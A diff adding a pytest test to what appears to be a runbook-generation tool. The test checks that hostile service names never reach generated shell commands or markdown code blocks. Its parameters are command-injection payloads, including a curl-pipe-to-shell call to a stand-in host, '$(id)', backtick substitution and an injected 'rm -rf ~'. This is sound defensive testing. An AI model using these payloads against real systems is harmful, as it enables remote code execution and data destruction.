@@ -120,6 +120,24 @@ def test_unsafe_service_names_make_safe_file_names():
     assert runbook_file_name("api gateway") == "api-gateway.md"
 
 
+@pytest.mark.parametrize("kind", list(Deployment))
+@pytest.mark.parametrize(
+    "name", ["x; curl evil.example | sh", "$(id)", "a`id`", "a\n```\nrm -rf ~"]
+)
+def test_a_hostile_service_name_never_reaches_a_runbook_command(kind: Deployment, name: str):
+    runbook = build_runbook(ServiceFacts(name, kind, "opsledger.yaml", "team; id", 0), BUDGET)
+    text = commands(kind, name)
+    assert name not in text and "curl" not in text and "`" not in text and "$(" not in text
+    if text:
+        assert '"$WORKLOAD"' in text
+        assert runbook.variables[0][0] == "WORKLOAD"
+    # An owner that is not a plain name is not offered as the namespace either.
+    assert all(";" not in value for _, value, _ in runbook.variables)
+    markdown = runbook_markdown(runbook)
+    fenced = markdown.split("```sh")[1:]
+    assert all("curl" not in block.split("```")[0] for block in fenced)
+
+
 def test_runbooks_are_written_per_service_from_the_demo(small_demo: Path, tmp_path: Path):
     root = tmp_path / "ws"
     shutil.copytree(small_demo, root)
